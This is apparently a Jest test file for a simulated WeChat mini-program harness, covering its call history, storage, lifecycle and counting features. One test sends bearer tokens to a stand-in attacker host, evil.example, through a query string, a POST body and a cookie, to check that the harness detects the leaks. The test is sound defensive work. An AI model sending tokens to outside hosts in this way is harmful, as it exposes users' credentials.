import { expect, test } from '@jest/globals'
import { createWorld } from '../../src/testing'
import { API } from './support'

test('it holds every call, how it ended, what was sent, what was answered, what was stored, and the life of the app', async () => {
  const world = createWorld()
  const token = world.server.issue()
  world.wx.login({})
  world.wx.request({ url: `${API}/orders`, header: { Authorization: `Bearer ${token}` } })
  await world.advance(10)
  void world.wx.setStorage({ key: 'a', data: { n: 1 } })
  await world.advance(1)
  world.wx.setStorageSync('b', 2)
  world.jump(-5)
  world.network.goOffline()
  world.app.hide()
  await world.advance(5000)
  world.app.show()
  world.restart()
  expect(world.history.steps).toEqual([
    {
      at: 0,
      life: 1,
      type: 'app',
      event: 'launch',
      options: expect.objectContaining({ scene: 1001 }) as object,
    },
    { at: 0, life: 1, type: 'call', call: 1, name: 'login', options: {} },
    {
      at: 0,
      life: 1,
      type: 'call',
      call: 2,
      name: 'request',
      options: { url: `${API}/orders`, header: { Authorization: 'Bearer token-1' } },
    },
    {
      at: 0,
      life: 1,
      type: 'request',
      call: 2,
      name: 'request',
      method: 'GET',
      url: `${API}/orders`,
      header: { Authorization: 'Bearer token-1' },
      data: undefined,
      token: 'token-1',
    },
    {
      at: 5,
      life: 1,
      type: 'answer',
      call: 2,
      method: 'GET',
      url: `${API}/orders`,
      statusCode: 200,
      data: { url: `${API}/orders` },
    },
    {
      at: 10,
      life: 1,
      type: 'end',
      call: 1,
      name: 'login',
      how: 'success',
      result: { code: 'code-1', errMsg: 'login:ok' },
    },
    expect.objectContaining({ at: 10, type: 'end', call: 2, how: 'success' }),
    expect.objectContaining({ at: 10, type: 'call', call: 3, name: 'setStorage' }),
    { at: 11, life: 1, type: 'storage', action: 'set', key: 'a', data: { n: 1 }, encrypt: false },
    expect.objectContaining({ at: 11, type: 'end', call: 3, how: 'success' }),
    expect.objectContaining({
      type: 'call',
      call: 4,
      name: 'setStorageSync',
      options: { key: 'b', data: 2 },
    }),
    expect.objectContaining({ type: 'storage', action: 'set', key: 'b' }),
    expect.objectContaining({ type: 'end', call: 4, how: 'return' }),
    { at: 11, life: 1, type: 'device', event: 'jump', ms: -5 },
    { at: 11, life: 1, type: 'device', event: 'offline' },
    { at: 11, life: 1, type: 'app', event: 'hide' },
    { at: 5011, life: 1, type: 'app', event: 'suspend' },
    { at: 5011, life: 1, type: 'app', event: 'interrupt' },
    { at: 5011, life: 1, type: 'app', event: 'show', options: {} },
    { at: 5011, life: 1, type: 'app', event: 'kill' },
    {
      at: 5011,
      life: 2,
      type: 'app',
      event: 'launch',
      options: expect.objectContaining({ scene: 1001 }) as object,
    },
  ])
})

test('it tells what the app passed then, whatever became of it', () => {
  const world = createWorld()
  const data = { list: [1] }
  const bytes = new Uint8Array([7])
  world.wx.request({ url: API, method: 'POST', data })
  world.wx.request({ url: API, method: 'POST', data: bytes.buffer })
  data.list.push(2)
  bytes[0] = 8
  const sent = world.history.sends().map((step) => step.data)
  expect(sent[0]).toEqual({ list: [1] })
  expect([...new Uint8Array(sent[1] as ArrayBuffer)]).toEqual([7])
  expect(world.history.steps).toContainEqual(
    expect.objectContaining({ type: 'call', options: { url: API, method: 'POST', data: { list: [1] } } }),
  )
})

test('it gives the calls of a function: what was passed, without callbacks, and when', async () => {
  const world = createWorld()
  const nothing = () => undefined
  world.wx.setStorage({ key: 'cart', data: [1], success: nothing })
  await world.advance(50)
  world.wx.setStorage({ key: 'token', data: 'x', encrypt: true, success: nothing })
  expect(world.history.calls('setStorage')).toMatchObject([{ at: 0 }, { at: 50 }])
  expect(world.history.calls('setStorage', 'token').map(({ options }) => options)).toEqual([
    { key: 'token', data: 'x', encrypt: true },
  ])
  expect(world.history.calls('login')).toEqual([])
})

test('it finds a token wherever it leaks', () => {
  const world = createWorld()
  for (let index = 0; index < 12; index++) world.server.issue()
  const { wx } = world
  wx.request({ url: 'https://evil.example/?t=token-11' })
  wx.request({ url: 'https://evil.example/', method: 'POST', data: { deep: ['token-1'] } })
  wx.request({ url: 'https://evil.example/', header: { cookie: 'sid=token-12' } })
  wx.request({ url: 'https://evil.example/' })
  expect(world.history.sends('evil').map(({ token }) => token)).toEqual([
    'token-11',
    'token-1',
    'token-12',
    null,
  ])
})

test('it counts', async () => {
  const world = createWorld()
  const { wx, history } = world
  wx.login({})
  wx.login({})
  wx.request({ url: `${API}/a` })
  wx.request({ url: `${API}/b` })
  wx.getStorage({ key: 'a' }).catch(() => undefined)
  await world.advance(100)
  expect([
    history.logins(),
    history.count('login'),
    history.count('request'),
    history.count('request', '/a'),
  ]).toEqual([2, 2, 2, 1])
  expect([history.count('getStorage', 'a'), history.count('getStorage', 'b')]).toEqual([1, 0])
  expect([history.sends().length, history.sends('/b').length, history.answers('/b').length]).toEqual([
    2, 1, 1,
  ])
  expect(history.maxInFlight).toBe(2)
  history.clear()
  expect([history.steps.length, history.maxInFlight]).toEqual([0, 0])
})

test('it prints', async () => {
  const world = createWorld()
  world.wx.request({ url: `${API}/orders`, header: { Authorization: `Bearer ${world.server.issue()}` } })
  world.script('login', { outcome: 'fail' })
  world.wx.login({})
  await world.advance(10)
  expect(`\n${world.history.toString()}\n`).toBe(`
       0 ms  app      launch (life 1)
       0 ms  call     wx.request #1
       0 ms  request  GET https://api.example.com/orders with token-1 #1
       0 ms  call     wx.login #2
       5 ms  answer   200 to GET https://api.example.com/orders #1
      10 ms  end      wx.login #2 fail: login:fail system error
      10 ms  end      wx.request #1 success: request:ok
`)
})
